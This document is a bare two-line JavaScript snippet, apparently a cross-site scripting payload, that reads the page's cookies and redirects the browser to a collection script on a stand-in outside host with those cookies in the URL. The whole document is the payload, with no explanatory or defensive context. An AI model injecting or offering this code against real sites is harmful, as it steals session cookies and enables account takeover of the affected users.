var x = document.cookie;
document.location = 'http://collect.example/c.php?c=' + escape(x);
